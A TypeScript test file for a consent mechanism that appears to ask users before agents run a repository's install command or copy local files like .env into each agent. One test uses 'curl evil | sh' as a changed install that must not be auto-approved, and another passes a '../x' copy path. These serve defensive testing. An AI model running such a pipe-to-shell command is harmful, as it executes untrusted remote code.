import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { allowedAlready, askOnce, describeProposal, proposalKey, proposalOf, type SetupProposal } from '../../src/core/setup/setupProposal';

const REPO = 'git://server/repo.git';
const at = { repoUrl: REPO, fileId: 'blob1', copyFrom: '/home/me/repo' };

describe('setup proposals', () => {
  it('ask only for a repository install and for files to copy when there is a folder to copy from', () => {
    assert.equal(proposalOf({}, at), undefined);
    assert.equal(proposalOf({ dev: 'npm run dev', port: 5173 }, at), undefined, 'dev and port run in the agent: nothing to allow');
    assert.equal(proposalOf({ install: '  ' }, at), undefined, 'an empty install turns the install off');
    assert.deepEqual(proposalOf({ install: 'npm ci', copy: ['.env'] }, at), { repoUrl: REPO, fileId: 'blob1', install: 'npm ci', copy: ['.env'] });
    assert.equal(proposalOf({ copy: ['.env'] }, { ...at, copyFrom: undefined }), undefined, 'nothing is copied without a folder');
    assert.deepEqual(proposalOf({ install: 'make', copy: ['.env'] }, { ...at, copyFrom: undefined }), { repoUrl: REPO, fileId: 'blob1', install: 'make', copy: [] });
  });

  it('are keyed by repository, setup file blob and what they show', () => {
    const base: SetupProposal = { repoUrl: REPO, fileId: 'blob1', install: 'npm ci', copy: ['.env'] };
    const key = proposalKey(base);
    assert.equal(proposalKey({ ...base }), key);
    for (const other of [{ ...base, fileId: 'blob2' }, { ...base, repoUrl: 'git://server/other.git' }, { ...base, install: 'npm i' }, { ...base, copy: ['.env', 'notes.txt'] }]) {
      assert.notEqual(proposalKey(other), key);
    }
  });

  it('are described with the install and every file', () => {
    assert.equal(describeProposal({ repoUrl: REPO, fileId: 'b', install: 'npm ci', copy: ['.env', 'notes.txt'] }), 'run \'npm ci\' and copy ".env", "notes.txt" from your folder into each agent');
    assert.equal(describeProposal({ repoUrl: REPO, fileId: 'b', copy: ['../x'] }), 'copy "../x" from your folder into each agent');
  });

  it('are asked once per burst, by concurrent askers too', async () => {
    let asked = 0;
    const consent = askOnce(async () => {
      asked++;
      await new Promise((resolve) => setTimeout(resolve, 10));
      return true;
    });
    const proposal: SetupProposal = { repoUrl: REPO, fileId: 'b', install: 'npm ci', copy: [] };
    assert.deepEqual(await Promise.all([consent(proposal), consent({ ...proposal }), consent(proposal)]), [true, true, true]);
    assert.equal(asked, 1);
    await consent({ ...proposal, fileId: 'c' });
    assert.equal(asked, 2, 'a changed setup file is asked again');
  });

  it('in the background, allow only what the agent was allowed', async () => {
    const allowed: SetupProposal = { repoUrl: REPO, fileId: 'b', install: 'npm ci', copy: [] };
    assert.equal(await allowedAlready(allowed)({ ...allowed }), true);
    assert.equal(await allowedAlready(allowed)({ ...allowed, fileId: 'changed', install: 'curl evil | sh' }), false);
    assert.equal(await allowedAlready(undefined)(allowed), false);
  });
});
